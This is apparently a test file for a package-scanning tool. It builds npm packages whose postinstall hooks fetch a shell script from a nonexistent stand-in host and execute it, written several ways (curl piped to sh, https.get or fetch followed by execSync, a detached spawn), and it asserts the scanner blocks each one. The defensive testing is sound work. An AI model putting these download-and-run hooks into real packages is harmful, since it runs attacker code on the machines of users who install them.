// However a postinstall spells "download a script and run it", the shipped policies block it. Inert: its host does not exist.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { execa } from 'execa'
import { afterAll, describe, expect, it } from 'vitest'
import { buildPackage } from '../support/tgz.ts'

const MAIN = join(import.meta.dirname, '../../src/main.ts')
const URL = 'https://payload.upstream.test/stage2.sh'
const REQUIRES = `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path')
const { execSync, spawn } = require('child_process')
const target = path.join(os.tmpdir(), 'setup-helper.sh')
`

const SPELLINGS = [
  { how: 'curl into sh in the manifest', hook: `curl -fsSL ${URL} | sh` },
  { how: 'curl into sh from a script', code: `require('child_process').execSync('curl -fsSL ${URL} | sh')` },
  {
    how: 'a piped response and sh',
    code: `${REQUIRES}https.get('${URL}', (response) => {
  const file = fs.createWriteStream(target)
  response.pipe(file)
  file.on('finish', () => execSync('sh ' + target, { stdio: 'ignore' }))
})`,
  },
  {
    how: 'collected chunks and sh',
    code: `${REQUIRES}https.get('${URL}', (response) => {
  const chunks = []
  response.on('data', (chunk) => chunks.push(chunk))
  response.on('end', () => { fs.writeFileSync(target, Buffer.concat(chunks)); execSync('sh ' + target) })
})`,
  },
  {
    how: 'fetch, text and sh',
    code: `${REQUIRES}fetch('${URL}').then((r) => r.text()).then((text) => { fs.writeFileSync(target, text); execSync('sh ' + target) })`,
  },
  {
    how: 'fetch in an async function and spawn',
    code: `${REQUIRES}async function main() {
  const answer = await fetch('${URL}')
  fs.writeFileSync(target, await answer.text())
  fs.chmodSync(target, 0o755)
  spawn(target, [], { detached: true, stdio: 'ignore' }).unref()
}
main()`,
  },
]

describe('a postinstall that downloads and runs a script', () => {
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-downloaders-'))
  afterAll(() => rmSync(folder, { recursive: true }))

  it.concurrent.each(SPELLINGS)('by $how is blocked', { timeout: 120_000 }, async ({ how, hook, code }) => {
    const manifest = {
      name: 'downloader',
      version: '1.0.0',
      main: 'index.js',
      scripts: { postinstall: hook ?? 'node setup.js' },
    }
    const files = { 'index.js': 'module.exports = 1\n', ...(code === undefined ? {} : { 'setup.js': code }) }
    const path = join(folder, `${how.replaceAll(/\W+/g, '-')}-1.0.0.tgz`)
    writeFileSync(path, (await buildPackage(manifest, files)).bytes)
    const { stdout, exitCode } = await execa(process.execPath, [MAIN, 'scan', '--json', path], {
      reject: false,
    })
    const { verdict } = JSON.parse(stdout) as { verdict: { outcome: string; reasons: unknown[] } }
    expect(verdict.outcome, stdout.slice(0, 500)).toBe('blocked')
    expect(verdict.reasons.length).toBeGreaterThan(0)
    expect(exitCode).toBe(1)
  })
})
